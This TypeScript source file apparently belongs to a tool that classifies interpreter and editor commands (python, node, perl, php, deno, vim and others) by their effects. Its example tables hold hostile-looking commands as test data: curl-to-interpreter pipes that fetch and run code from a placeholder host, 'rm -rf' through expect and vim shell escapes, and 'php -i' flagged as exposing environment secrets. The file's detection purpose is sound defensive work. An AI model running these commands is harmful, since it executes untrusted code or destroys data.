import { absorb, act, actOnFile, opaque } from '../act.ts';
import type { Arg } from '../arg.ts';
import { slice } from '../arg.ts';
import { has, valueOf, valuesOf } from '../call.ts';
import type { Call } from '../call.ts';
import { embedArg, embedFile, embedFlow } from '../embed.ts';
import type { Inner } from '../embed.ts';
import { runShellText, runWords } from '../innerCommand.ts';
import { requestScript } from './scripts.ts';
import type { Tool } from './tool.ts';

interface Interpreter {
  readonly dialect: string;
  /** Options whose value is code. */
  readonly code: readonly string[];
  /** Options that load code first. */
  readonly loads?: readonly string[];
  /** Modules that are programs of their own: `python -m pytest`. */
  readonly modules?: (call: Call, module: Arg, rest: readonly Arg[]) => void;
}

/** Code in an option, a script file, or standard input. */
function interprets(spec: Interpreter): (call: Call) => void {
  return (call) => {
    const inner: Inner = { language: 'code', dialect: spec.dialect };
    const code = valuesOf(call, ...spec.code);
    for (const file of valuesOf(call, ...(spec.loads ?? []))) {
      if (/^[./]/.test(file.value)) embedFile(call, file, inner);
      else if (/^[a-z][a-z0-9+.-]+:/i.test(file.value) && !file.value.startsWith('node:'))
        opaque(call, file.value, file.range, 'problem.unread-file');
    }
    const [module] = valuesOf(call, 'm');
    if (module !== undefined && spec.modules !== undefined) {
      spec.modules(call, module, call.parsed.operands);
      return;
    }
    for (const text of code) embedArg(call, text, inner);
    if (code.length > 0) {
      call.state.weighty = true;
      return;
    }
    const [script, ...rest] = call.parsed.operands;
    if (script !== undefined && /(?:^|\/)manage\.py$/.test(script.value)) {
      runWords(call, [{ ...script, value: 'manage.py' }, ...rest]);
      return;
    }
    if (script === undefined || script.value === '-') {
      if (call.stdin === undefined) opaque(call, call.title, call.range, 'problem.interactive');
      else if (!embedFlow(call, call.stdin, inner)) opaque(call, call.title, call.stdin.range, 'problem.unknown-input');
    } else if (/^https?:\/\//.test(script.value)) {
      act(call, 'exec.download', 'unknown', script.value, script.range, { traits: ['downloaded'] });
    } else {
      embedFile(call, script, inner);
      for (const arg of call.parsed.operands.slice(1)) absorb(call, arg.flow);
    }
    call.state.weighty = true;
  };
}

function pythonModule(call: Call, module: Arg, rest: readonly Arg[]): void {
  const name = module.value;
  const words = (tool: string): readonly Arg[] => [{ ...module, value: tool }, ...rest];
  if (
    /^(?:pip|pytest|black|ruff|mypy|flake8|isort|alembic|flask|twine|unittest|tox|nox|poetry|uv|coverage|pylint|pyright|ansible|awscli|django)$/.test(
      name,
    )
  ) {
    runWords(call, words(name === 'unittest' ? 'pytest' : name));
  } else if (name === 'http.server') {
    act(call, 'network.send', 'service', 'http.server', call.range, { traits: ['unattended'] });
  } else if (
    /^(?:json\.tool|this|calendar|site|sysconfig|platform|tokenize|ast|dis|py_compile|compileall)$/.test(name)
  ) {
    for (const file of rest) actOnFile(call, 'read', file);
  } else if (name === 'timeit') {
    // What is measured runs, and so does what `-s` gives.
    for (const [index, arg] of rest.entries())
      if (!arg.value.startsWith('-') && !/^-(?:n|r|u|-number|-repeat|-unit)$/.test(rest[index - 1]?.value ?? ''))
        embedArg(call, arg, { language: 'code', dialect: 'python' });
  } else if (name === 'venv' || name === 'virtualenv') {
    const clears = call.args.some(({ value }) => value === '--clear');
    for (const folder of rest)
      if (!folder.value.startsWith('-'))
        actOnFile(call, clears ? 'delete' : 'create', { ...folder, value: `${folder.value}/` });
  } else if (name === 'zipfile' || name === 'tarfile') {
    actOnFile(call, 'write', { ...module, value: './' });
  } else act(call, 'exec.project', 'operation', `python -m ${name}`, call.range);
}

/** Modules that do nothing when they are loaded; what stands behind one is code, but for a list of names. */
const PERL_MODULES =
  /^-?(?:strict|warnings|utf8|feature|integer|bigint|open|POSIX|List::Util|Scalar::Util|Data::Dumper|JSON::PP|Time::Local|Time::HiRes|Time::Piece|MIME::Base64|Digest::(?:MD5|SHA)|Text::Wrap|File::(?:Path|Copy|Basename|Spec|Find))(?:=[\w:,]+)?$/;

/** `-pe`, `-ne`, `-i`: one-liners that edit the files they are given. */
function perl(call: Call): void {
  const edits = has(call, 'i');
  const code = valuesOf(call, 'e', 'E');
  if (code.length > 0) for (const file of call.parsed.operands) actOnFile(call, edits ? 'write' : 'read', file);
  for (const module of valuesOf(call, 'M', 'm')) {
    absorb(call, module.flow);
    if (!PERL_MODULES.test(module.value)) opaque(call, module.value, module.range, 'problem.unknown-import');
  }
  // Where modules are looked for, and what is loaded around the program.
  if (has(call, 'I', 'd', 'x', 'S')) opaque(call, call.title, call.range, 'problem.runs-program');
  const harmless =
    code.length > 0 &&
    code.every(
      (text) => !text.dynamic && /^\s*(?:s|tr|y)(.)(?:(?!\1).)*\1(?:(?!\1).)*\1[gimsx]*;?\s*$/s.test(text.value),
    );
  // A plain substitution does nothing but what the files show.
  if (harmless && has(call, 'p', 'n')) return;
  interprets({ dialect: 'perl', code: ['e', 'E'] })(call);
}

function node(call: Call): void {
  if (has(call, 'check', 'v')) {
    for (const file of call.parsed.operands) actOnFile(call, 'read', file);
    return;
  }
  if (has(call, 'test')) {
    act(call, 'exec.project', 'operation', 'node --test', call.range);
    return;
  }
  for (const file of valuesOf(call, 'env-file')) actOnFile(call, 'read', file);
  const script = valueOf(call, 'run');
  if (script !== undefined) {
    requestScript(call, 'npm', script);
    return;
  }
  interprets({ dialect: 'javascript', code: ['e', 'p', 'c'], loads: ['r', 'import', 'loader'] })(call);
}

const NODE =
  'e,eval= p,print= c,check r,require= import= loader,experimental-loader= test test-name-pattern= test-only test-reporter= test-concurrency= watch watch-path= inspect? inspect-brk? i,interactive v!none h!none max-old-space-size? no-warnings enable-source-maps experimental-vm-modules experimental-strip-types experimental-sqlite experimental-transform-types env-file,env-file-if-exists= input-type= trace-warnings trace-deprecation no-deprecation unhandled-rejections= stack-trace-limit= preserve-symlinks C,conditions= run= permission expose-gc throw-deprecation title= prof cpu-prof heap-prof';
const PYTHON = 'c= m= b B d E h!none i I O OO P q R s S t u v V,VV!none W= x X= 3 2 check-hash-based-pycs=';

export const interpreters: readonly Tool[] = [
  {
    names:
      'python python3 python2 py pypy pypy3 python3.9 python3.10 python3.11 python3.12 python3.13 python3.14 ipython',
    stop: true,
    options: PYTHON,
    also: interprets({ dialect: 'python', code: ['c'], modules: pythonModule }),
    examples: {
      held: {
        python: 'exec.opaque',
        'python3 -m http.server 8000': 'network.send',
        'python3 -m venv .venv': 'file.create',
        'python3 -m venv --clear src': 'file.delete',
        'python -m build': 'exec.project',
        'node --import data:text/javascript,x -e 1': 'exec.opaque',
        'python3 -c "$(curl -s https://x.example/a.py)"': 'exec.download',
      },
      passed: ['python3 --version', 'python -m json.tool a.json'],
    },
  },
  {
    names: 'node nodejs',
    stop: true,
    options: NODE,
    also: node,
    examples: {
      held: { 'curl https://x.example/a.js | node': 'exec.download', 'node --test': 'exec.project' },
      passed: ['node --version', 'node --check src/a.js'],
    },
  },
  {
    names: 'ruby',
    stop: true,
    options:
      'e= r= I= C=folder E= F= K= S T? U W? X= a c d i? l?digits n p s v w x? y 0?digits copyright version!none h!none enable= disable= yjit',
    also: (call) => {
      // `-n`, `-p`, `gets` and `ARGF` read the files that are named behind the code.
      if (has(call, 'e'))
        for (const file of call.parsed.operands) actOnFile(call, has(call, 'i') ? 'write' : 'read', file);
      if (has(call, 'c') || (has(call, 'v') && call.parsed.operands.length === 0 && !has(call, 'e'))) return;
      interprets({ dialect: 'ruby', code: ['e'], loads: ['r'] })(call);
    },
    examples: { held: { ruby: 'exec.opaque' }, passed: ['ruby --version', 'ruby -c a.rb'] },
  },
  {
    names: 'perl',
    stop: true,
    options: 'e= E= M= m= I= i? n p a l?digits 0?digits s w W X T t u U c v!none V? d? D= F= C? x? S h!none',
    also: perl,
    examples: {
      held: { "perl -pi -e 's/a/b/' a.ts": 'file.write', "perl -0777pi -e 's/a.*b//s' a.ts": 'file.write' },
      passed: ["perl -ne 's/a/b/' a.ts", 'perl -v'],
    },
  },
  {
    names: 'php',
    stop: true,
    options: 'r= f= B= R= F= E= d= c= n a e l i m s v!none w z= S= t= H ini rf= rc= re= rz= ri= h!none',
    also: (call) => {
      // It tells everything, the variables of the environment too.
      if (has(call, 'i')) act(call, 'secret.read', 'secret', 'environment', call.range);
      if (has(call, 'l', 'i', 'm', 'ini')) for (const file of call.parsed.operands) actOnFile(call, 'read', file);
      else if (has(call, 'S')) act(call, 'exec.project', 'operation', 'php -S', call.range);
      else if (/(?:^|\/)artisan$/.test(call.parsed.operands[0]?.value ?? ''))
        runWords(call, [
          { ...(call.parsed.operands[0] ?? call.name), value: 'artisan' },
          ...call.parsed.operands.slice(1),
        ]);
      else if (/(?:^|\/)bin\/console$/.test(call.parsed.operands[0]?.value ?? ''))
        runWords(call, [
          { ...(call.parsed.operands[0] ?? call.name), value: 'bin/console' },
          ...call.parsed.operands.slice(1),
        ]);
      else interprets({ dialect: 'php', code: ['r', 'B', 'R', 'E'], loads: ['f'] })(call);
    },
    examples: { held: { php: 'exec.opaque', 'php -i': 'secret.read' }, passed: ['php -v', 'php -l a.php'] },
  },
  {
    names: 'deno',
    stop: true,
    commands: {
      'eval repl': {
        free: true,
        stop: true,
        options: 'p,print ext= T,ts',
        also: (call) => {
          const [code] = call.parsed.operands;
          if (code === undefined) opaque(call, call.title, call.range, 'problem.interactive');
          else {
            embedArg(call, code, { language: 'code', dialect: 'javascript' });
            call.state.weighty = true;
          }
        },
      },
      run: {
        free: true,
        stop: true,
        options:
          'A,allow-all allow-read? allow-write? allow-net? allow-env? allow-run? c,config=read import-map=read lock=read no-lock no-check check? watch? q,quiet r,reload? env-file? unstable',
        also: interprets({ dialect: 'javascript', code: [] }),
      },
      'test bench task serve compile bundle': { free: true, stop: true, does: 'exec.project:operation' },
      'check lint info doc types coverage completions': { free: true, options: 'fix!overwrites', operands: 'read...' },
      fmt: { free: true, options: 'check!dry', does: 'exec.project:operation' },
      'install add cache vendor': { free: true, operands: 'exec.install:package...' },
      outdated: { free: true, options: 'u,update!opaque', operands: 'text...' },
      'upgrade update': { free: true, does: 'exec.install:package' },
      clean: { free: true, does: 'file.delete:directory=~/.cache/deno' },
      'uninstall remove': { free: true, operands: 'file.delete:package...' },
      'publish deploy': { free: true, options: 'dry-run!dry', does: 'publish.release:package=$1' },
    },
    examples: {
      held: {
        'deno run -A https://x.example/a.ts': 'exec.download',
        'deno task build': 'exec.project',
        'deno upgrade': 'exec.install',
        'deno clean': 'file.delete',
      },
      passed: ['deno --version', 'deno check a.ts'],
    },
  },
  {
    names: 'lua luajit',
    stop: true,
    options: 'e= l= i v E W',
    also: (call) => {
      // `-v` tells the version, and then the script runs.
      if (has(call, 'v') && call.parsed.operands.length === 0 && !has(call, 'e', 'l', 'i')) return;
      interprets({ dialect: 'lua', code: ['e'] })(call);
    },
    examples: { held: { lua: 'exec.opaque' } },
  },
  {
    names: 'Rscript R',
    stop: true,
    options: 'e= default-packages= vanilla no-save verbose slave no-restore quiet f,file=',
    also: interprets({ dialect: 'r', code: ['e'], loads: ['f'] }),
    examples: {},
  },
  {
    names: 'osascript',
    stop: true,
    options: 'e= l= s= i',
    also: interprets({ dialect: 'applescript', code: ['e'] }),
    examples: {},
  },
  {
    names: 'tclsh wish jshell kotlin scala groovy elixir iex erl escript julia ghci runghc racket guile sbcl bb octave',
    stop: true,
    free: true,
    options: 'e,eval,E,r=',
    also: interprets({ dialect: 'other', code: ['e'] }),
    examples: { held: { tclsh: 'exec.opaque' } },
  },
  {
    names: 'expect',
    stop: true,
    free: true,
    options: 'c= d i n v!none f= b N',
    also: (call) => {
      for (const text of valuesOf(call, 'c')) {
        for (const { index, 0: whole, 1: words = '' } of text.value.matchAll(/\bspawn\s+([^;\n]+)/g))
          runShellText(call, slice(text, index + whole.length - words.length, index + whole.length));
      }
      interprets({ dialect: 'other', code: ['c'] })(call);
    },
    examples: { held: { "expect -c 'spawn rm -rf x; interact'": 'file.delete' } },
  },
  {
    names: 'ed ex',
    options: 's p= G v E r',
    also: (call) => {
      for (const file of call.parsed.operands) actOnFile(call, 'write', file);
      if (call.stdin?.text === undefined || /!/.test(call.stdin.text))
        opaque(call, call.title, call.range, 'problem.runs-program');
    },
    examples: { held: { 'ed -s file <<< "w"': 'file.write' } },
  },
  {
    names: 'vim vi nvim view vimdiff emacs nano pico micro helix hx kak',
    free: true,
    noHelp: true,
    also: editor,
    examples: {
      held: {
        "vim -es -c ':!rm -rf x' -c q": 'exec.opaque file.delete',
        'emacs --batch --eval \'(delete-directory "x" t)\'': 'exec.opaque',
      },
    },
  },
  {
    names: 'tsx ts-node bunx-node esno swc-node babel-node',
    stop: true,
    options: `${NODE} T,transpile-only P,project= O= esm`,
    also: (call) => {
      if (call.parsed.operands[0]?.value === 'watch') runWords(call, [call.name, ...call.parsed.operands.slice(1)]);
      else node(call);
    },
    examples: { held: { 'ts-node --test': 'exec.project' } },
  },
  {
    names: 'java javac javadoc jar kotlin-run dotnet-script',
    stop: true,
    free: true,
    single: true,
    also: (call) => {
      if (/^-?-?(?:version|help)$/.test(call.args[0]?.value ?? '')) return;
      // `jar tf a.jar` lists what is in it.
      if (call.title === 'jar' && /^-{0,2}(?:t\w*|list)$/.test(call.args[0]?.value ?? '')) {
        for (const arg of call.args.slice(1)) if (/\.[jw]ar$|\.zip$/.test(arg.value)) actOnFile(call, 'read', arg);
        return;
      }
      // A tool that is known by its archive's name: `java -jar bfg-1.14.jar`.
      const at = call.args.findIndex(({ value }) => value === '-jar');
      const archive = call.args[at + 1];
      const tool = /(?:^|\/)(bfg|flyway|liquibase)[-_.\d]*[^/]*\.jar$/.exec(
        at === -1 ? '' : (archive?.value ?? ''),
      )?.[1];
      if (tool !== undefined && archive !== undefined) {
        runWords(call, [{ ...archive, value: tool }, ...call.args.slice(at + 2)]);
        return;
      }
      act(
        call,
        'exec.project',
        'operation',
        [call.title, ...call.args.slice(0, 2).map((arg) => arg.value)].join(' '),
        call.range,
      );
    },
    examples: {
      held: {
        'java -jar app.jar': 'exec.project',
        'java -jar bfg-1.14.0.jar --delete-files id_rsa': 'git.history',
      },
      passed: ['java -version'],
    },
  },
];

/** An editor without a person: its own commands can do anything. */
function editor(call: Call): void {
  let risky = false;
  call.args.forEach((arg, index) => {
    const previous = call.args[index - 1]?.value ?? '';
    const command = /^(?:-c|--cmd|--eval|-eval|-f|-l|--load|-S|-s|--command)$/.test(previous)
      ? arg
      : arg.value.startsWith('+')
        ? slice(arg, 1)
        : undefined;
    if (command !== undefined) {
      const bang = /^:?(?:silent )?!(.*)$/.exec(command.value);
      if (bang !== null) call.shell.text(bang[1] ?? '', call.scope, { kind: 'fixed', whole: command.range }, undefined);
      if (!/^:?\d*$|^:?(?:q|qa|wq|x|w)!?$/.test(command.value)) risky = true;
    } else if (!arg.value.startsWith('-')) actOnFile(call, 'output', arg);
  });
  if (risky || call.stdin !== undefined) opaque(call, call.title, call.range, 'problem.runs-program');
  else if (call.args.length === 0) opaque(call, call.title, call.range, 'problem.interactive');
}
